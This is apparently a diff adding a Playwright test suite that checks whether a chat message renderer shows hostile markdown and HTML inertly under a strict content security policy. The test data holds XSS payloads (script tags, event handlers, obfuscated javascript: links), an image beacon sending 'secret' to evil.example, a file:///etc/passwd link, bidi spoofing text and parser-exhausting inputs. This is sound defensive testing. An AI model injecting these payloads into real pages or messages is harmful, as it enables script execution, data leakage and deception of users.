@@ -1,0 +1,88 @@
+import { expect, type Page, test } from '@playwright/test';
+import { raiseStage, type Stage, strictPolicy } from './stage.ts';
+import { asked, ended, enter, event, everything, said } from './states.ts';
+
+const hostile: Record<string, string> = {
+  'raw HTML':
+    '<script>location="https://evil.example"</script><img src=x onerror=alert(1)><iframe src="javascript:alert(1)"></iframe><svg onload=alert(1)><style>*{display:none}</style>\n\n<div onclick=alert(1)>x</div>',
+  'obfuscated addresses':
+    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1)) [d](&#106;avascript:alert(1)) [e](data:text/html,<script>alert(1)</script>) [f](vbscript:x) [g](\u0001javascript:alert(1)) [h](//evil.example) <javascript:alert(1)> [i](file:///etc/passwd) [j](blob:x)',
+  'remote images':
+    '![x](https://evil.example/?q=secret) ![](//evil.example/a.png) [![y](https://evil.example/b.png)](https://evil.example) ![z](data:image/svg+xml,<svg onload=alert(1)>) <img src="https://evil.example/c.png">',
+  'reference links':
+    '[a][ref] ![b][ref] [ref]\n\n[ref]: https://evil.example "t"\n[ref]: javascript:alert(1)',
+  'deep nesting': `${'>'.repeat(2_000)} deep\n\n${'- '.repeat(1_000)}x\n\n${'*a_ '.repeat(2_000)}\n\n${'['.repeat(5_000)}${'![](('.repeat(1_000)}`,
+  'huge tables': `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n${`|${'b|'.repeat(50)}\n`.repeat(1_000)}`,
+  'unclosed constructs': '**a __b *c ~~d `e [f](g ![h](i "j\n\n```js\nlet a = `${b}`;\n| a |\n|---\n> - 1. ',
+  'bidi and combining characters': `\u202e${'e\u0301\u0316'.repeat(500)}\u2066 [\u202egro.elpmaxe](https://evil.example) \u{e0041}\u{e0042} ${'\u0300'.repeat(5_000)}`,
+};
+
+interface Report {
+  violations: string[];
+  longest: number;
+  errors: string[];
+}
+
+const watch = (page: Page) =>
+  page.addInitScript(() => {
+    const report: Report = { violations: [], longest: 0, errors: [] };
+    Object.assign(globalThis, { report });
+    addEventListener('securitypolicyviolation', (violation) =>
+      report.violations.push(`${violation.violatedDirective} ${violation.blockedURI} ${violation.sample}`),
+    );
+    addEventListener('error', ({ message }) => report.errors.push(message));
+    addEventListener('unhandledrejection', ({ reason }) => report.errors.push(String(reason)));
+    globalThis.alert = () => report.errors.push('alert');
+    new PerformanceObserver((list) => {
+      for (const { duration } of list.getEntries()) report.longest = Math.max(report.longest, duration);
+    }).observe({ type: 'longtask', buffered: true });
+  });
+
+const reported = (page: Page) => page.evaluate(() => (globalThis as unknown as { report: Report }).report);
+
+async function onStage(
+  page: Page,
+  events: Parameters<typeof raiseStage>[0]['events'],
+  run: (stage: Stage) => Promise<void>,
+) {
+  const stage = await raiseStage({ events: events ?? [], page: strictPolicy });
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    if (!request.url().startsWith(stage.url)) foreign.push(request.url());
+  });
+  await watch(page);
+  try {
+    await run(stage);
+    expect(page.url()).toBe(stage.url);
+    expect(foreign).toEqual([]);
+    const { violations, errors } = await reported(page);
+    expect({ violations, errors }).toEqual({ violations: [], errors: [] });
+  } finally {
+    await stage.close();
+  }
+}
+
+for (const [name, text] of Object.entries({ ...hostile, 'well-meant text': everything })) {
+  test(`${name}, whole, do nothing but show under a strict policy`, async ({ page }) => {
+    await onStage(
+      page,
+      [...asked(1, 'Hello'), ...said(1, text), ...said(1, '\n\nThe end.'), ...ended(1)],
+      (stage) => enter(page, stage.url, { shows: 'The end.' }),
+    );
+  });
+
+  test(`${name}, written bit by bit, do nothing but show under a strict policy`, async ({ page }) => {
+    await onStage(page, asked(1, 'Hello'), async (stage) => {
+      await enter(page, stage.url, { shows: 'Hello' });
+      const step = { sequence: 1, turnId: 'turn_1', stepIndex: 0 };
+      // Character by character; the long ones in 2,000 pieces.
+      const size = Math.ceil(text.length / 2_000);
+      for (let at = 0; at < text.length; at += size)
+        stage.write(event('message.appended', { ...step, messageDelta: text.slice(at, at + size) }));
+      for (const each of [...said(1, text), ...said(1, 'The end.'), ...ended(1)]) stage.write(each);
+      await expect(page.getByRole('log').getByText('The end.')).toBeVisible();
+      const { longest } = await reported(page);
+      test.info().annotations.push({ type: 'longest task, ms', description: String(longest) });
+    });
+  });
+}
